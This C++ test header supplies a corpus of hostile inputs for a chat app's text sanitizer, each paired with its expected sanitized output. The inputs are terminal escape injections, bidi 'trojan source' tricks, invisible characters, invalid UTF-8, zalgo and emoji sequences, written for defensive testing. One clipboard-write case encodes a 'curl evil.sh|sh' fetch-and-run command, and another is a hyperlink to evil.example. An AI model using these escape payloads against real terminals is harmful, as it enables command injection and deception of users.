// Hostile payload texts (terminal escape injection, invalid UTF-8, invisible
// and bidi characters, zalgo, emoji sequences) with what the sanitizer must
// make of each in Newlines::fold mode. Shared by the sanitizer, codec and
// line-format tests.
#pragma once

#include <string>
#include <vector>

namespace mqchat::test_support {

struct HostileCase {
    const char* name;
    std::string input;
    std::string folded;  // expected sanitize(input, Newlines::fold)
};

inline std::string repeat(const std::string& s, std::size_t n) {
    std::string out;
    out.reserve(s.size() * n);
    for (std::size_t i = 0; i < n; ++i)
        out += s;
    return out;
}

// Careful with "\xNN" escapes: a following hex digit would extend them, so
// such literals are split ("\xc2\x9b" "31m").
inline const std::vector<HostileCase>& hostile_corpus() {
    using namespace std::string_literals;
    // One hostile case per line reads best.
    // clang-format off
    static const std::vector<HostileCase> corpus = {
        // CSI: colours, cursor movement, screen clearing, modes, reports.
        {"csi_colour", "a\x1b[31mb\x1b[0m", "ab"},
        {"csi_truecolour", "\x1b[38;2;255;0;0mred\x1b[m", "red"},
        {"csi_cursor_moves", "\x1b[2J\x1b[H\x1b[10;20Hx\x1b[A\x1b[5D\x1b[s\x1b[u", "x"},
        {"csi_clear_screen_and_scrollback", "before\x1b[2J\x1b[3J\x1b[1;1Hafter", "beforeafter"},
        {"csi_private_mode_alt_screen", "\x1b[?1049h\x1b[?25lhidden cursor\x1b[?1049l", "hidden cursor"},
        {"csi_report_title", "\x1b[21t\x1b[6n\x1b[c", ""},
        {"csi_intermediate", "a\x1b[1 qb", "ab"},
        {"csi_interrupted_by_esc", "\x1b[31\x1b[32mX", "X"},
        {"csi_unterminated", "a\x1b[31;", "a"},
        {"reset_terminal_ris", "a\x1b" "cb", "ab"},
        {"save_restore_cursor", "a\x1b" "7b\x1b" "8c", "abc"},
        {"esc_esc", "\x1b\x1b[31mX", "X"},
        {"esc_before_utf8", "\x1b\xc3\xa9", "\xc3\xa9"},
        // OSC: titles, clipboard, hyperlinks, iTerm2 file transfer.
        {"osc0_title_bel", "x\x1b]0;pwned\x07y", "xy"},
        {"osc2_title_st", "x\x1b]2;pwned\x1b\\y", "xy"},
        {"osc_title_unterminated", "x\x1b]0;pwned and everything after", "x"},
        {"osc52_clipboard_write", "a\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07" "b", "ab"},
        {"osc52_clipboard_query", "\x1b]52;c;?\x1b\\", ""},
        {"osc8_hyperlink", "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\", "click me"},
        {"osc1337_iterm_file", "\x1b]1337;File=name=eA==;inline=1:AAAA\x07ok", "ok"},
        {"osc_with_c1_st", "a\x1b]0;t\xc2\x9c" "b", "ab"},
        // DCS, SOS, PM, APC.
        {"dcs_decrqss", "a\x1bP$q\"p\x1b\\b", "ab"},
        {"dcs_sixel", "a\x1bPq#0;2;0;0;0#1!6~\x1b\\b", "ab"},
        {"apc_kitty_graphics", "a\x1b_Gf=100,a=T;AAAA\x1b\\b", "ab"},
        {"pm", "a\x1b^private\x1b\\b", "ab"},
        {"sos", "a\x1bXstring\x1b\\b", "ab"},
        {"dcs_unterminated", "a\x1bPq#0;2;0", "a"},
        // 8-bit C1 forms, encoded as UTF-8 code points U+0080..U+009F.
        {"c1_csi_utf8", "a\xc2\x9b" "31mb", "ab"},
        {"c1_osc_utf8_st", "a\xc2\x9d" "0;title\xc2\x9c" "b", "ab"},
        {"c1_osc_utf8_bel", "a\xc2\x9d" "0;title\x07" "b", "ab"},
        {"c1_dcs_utf8", "a\xc2\x90" "x\xc2\x9c" "b", "ab"},
        {"c1_apc_pm_sos_utf8",
         "a\xc2\x9f" "x\xc2\x9c" "b\xc2\x9e" "y\xc2\x9c" "c\xc2\x98" "z\xc2\x9c" "d",
         "abcd"},
        {"c1_nel_ind_ri", "a\xc2\x85" "b\xc2\x84" "c\xc2\x8d" "d", "abcd"},
        {"c1_stray_st", "a\xc2\x9c" "b", "ab"},
        // Raw 8-bit C1 bytes: not UTF-8, so each is one U+FFFD.
        {"c1_csi_raw_byte", "a\x9b" "31mb", "a\xef\xbf\xbd" "31mb"},
        {"c1_osc_raw_byte", "a\x9d" "0;t\x07" "b", "a\xef\xbf\xbd" "0;tb"},
        // Other escapes.
        {"bare_esc_at_end", "abc\x1b", "abc"},
        {"nf_charset_designation", "a\x1b(0lqqk\x1b(Bb", "alqqkb"},
        {"nf_multiple_intermediates", "a\x1b$)Ab", "ab"},
        {"esc_with_intermediate_at_end", "a\x1b(", "a"},
        // C0 controls and DEL.
        {"del", "a\x7f" "b", "ab"},
        {"nul", "a\0b"s, "ab"},
        {"bel", "a\x07" "b", "ab"},
        {"backspace_overwrite", "password\b\b\b\b\b\b\b\bxxxxxxxx", "passwordxxxxxxxx"},
        {"vertical_tab_form_feed", "a\x0b" "b\x0c" "c", "abc"},
        {"shift_out_in", "a\x0e" "b\x0f" "c", "abc"},
        {"cr_overwrite", "safe\rEVIL", "safe \xe2\x8f\x8e EVIL"},
        {"crlf", "a\r\nb", "a \xe2\x8f\x8e b"},
        {"newline", "a\nb", "a \xe2\x8f\x8e b"},
        {"tab", "a\tb", "a b"},
        {"unicode_line_separators", "a\u2028" "b\u2029" "c", "a \xe2\x8f\x8e b \xe2\x8f\x8e c"},
        // Bidi overrides, isolates and marks (trojan source).
        {"bidi_rlo", "abc\u202e" "fed", "abcfed"},
        {"bidi_all_embeddings", "\u202a" "a\u202b" "b\u202c" "c\u202d" "d\u202e" "e", "abcde"},
        {"bidi_isolates", "\u2066" "a\u2067" "b\u2068" "c\u2069" "d", "abcd"},
        {"bidi_marks", "a\u200e" "b\u200f" "c\xd8\x9c" "d", "abcd"},
        {"trojan_source_filename", "invoice\u202e" "fdp.exe", "invoicefdp.exe"},
        // Zero-width and other invisible characters.
        {"zero_width", "a\u200b" "b\u200c" "c\u200d" "d\u2060" "e", "abcde"},
        {"bom", "\ufeff" "hi\ufeff", "hi"},
        {"soft_hyphen", "in\xc2\xad" "visible", "invisible"},
        {"invisible_operators", "a\u2061" "b\u2062" "c\u2063" "d\u2064" "e", "abcde"},
        {"tag_characters", "a\U000e0001\U000e0041\U000e0042\U000e007f" "b", "ab"},
        {"hangul_filler", "a\u3164" "b", "ab"},
        {"interlinear_annotation", "a\ufff9" "hidden\ufffb" "b", "ahiddenb"},
        // Invalid UTF-8: one U+FFFD per maximal invalid subpart.
        {"overlong_slash", "a\xc0\xaf" "b", "a\xef\xbf\xbd\xef\xbf\xbd" "b"},
        {"overlong_nul", "\xc0\x80", "\xef\xbf\xbd\xef\xbf\xbd"},
        {"overlong_3byte", "\xe0\x80\xaf", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"},
        {"surrogate", "\xed\xa0\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"},
        {"surrogate_pair_cesu8", "\xed\xa0\xbd\xed\xb8\x80", repeat("\xef\xbf\xbd", 6)},
        {"above_max_codepoint", "\xf4\x90\x80\x80", repeat("\xef\xbf\xbd", 4)},
        {"f5_lead", "\xf5\x80\x80\x80", repeat("\xef\xbf\xbd", 4)},
        {"lone_continuation", "a\x80" "b", "a\xef\xbf\xbd" "b"},
        {"truncated_at_end", "ab\xe2\x82", "ab\xef\xbf\xbd"},
        {"truncated_before_ascii", "\xe2\x82z\xf0\x9f\x98", "\xef\xbf\xbdz\xef\xbf\xbd"},
        {"ff_fe_bytes", "\xff\xfe", "\xef\xbf\xbd\xef\xbf\xbd"},
        {"noncharacter", "a\xef\xbf\xbe" "b", "a\xef\xbf\xbd" "b"},
        {"unassigned", "a\xcd\xb8" "b", "a\xef\xbf\xbd" "b"},
        // Zalgo: 10k combining marks are capped at 8 per base character.
        {"zalgo_10k", "Z" + repeat("\xcc\x81", 10000) + "!", "Z" + repeat("\xcc\x81", 8) + "!"},
        {"zalgo_per_base", repeat("a" + repeat("\xcc\x88", 20), 3), repeat("a" + repeat("\xcc\x88", 8), 3)},
        // Emoji: the sequence glue (VS16, ZWJ, skin tones) is dropped.
        {"emoji_vs16", "\xe2\x9d\xa4\xef\xb8\x8f", "\xe2\x9d\xa4"},
        {"emoji_skin_tone", "\xf0\x9f\x91\x8d\xf0\x9f\x8f\xbd", "\xf0\x9f\x91\x8d"},
        {"emoji_zwj_family",
         "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7",
         "\xf0\x9f\x91\xa8\xf0\x9f\x91\xa9\xf0\x9f\x91\xa7"},
        {"emoji_plain", "ok \xf0\x9f\x98\x80", "ok \xf0\x9f\x98\x80"},
        {"emoji_keycap", "1\xef\xb8\x8f\xe2\x83\xa3", "1\xe2\x83\xa3"},
        {"emoji_flag_tags",
         "\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7\xf3\xa0\x81\xa2\xf3\xa0\x81\xb3\xf3\xa0\x81\xa3"
         "\xf3\xa0\x81\xb4\xf3\xa0\x81\xbf",
         "\xf0\x9f\x8f\xb4"},
        // Wide characters pass untouched.
        {"cjk",
         "\xe6\xbc\xa2\xe5\xad\x97 \xe3\x81\x8b\xe3\x81\xaa",
         "\xe6\xbc\xa2\xe5\xad\x97 \xe3\x81\x8b\xe3\x81\xaa"},
        {"fullwidth_latin", "\xef\xbc\xa1\xef\xbc\xa2", "\xef\xbc\xa1\xef\xbc\xa2"},
        // A bit of everything at once.
        {"kitchen_sink",
         "\x1b]0;t\x07\xe2\x80\xae\x1b[31m<admin>\x1b[0m\r\x1b[2K\x07\x7f\xc2\x9b" "2J\xff\xe2\x80\x8b ok",
         "<admin> \xe2\x8f\x8e \xef\xbf\xbd ok"},
    };
    // clang-format on
    return corpus;
}

}  // namespace mqchat::test_support
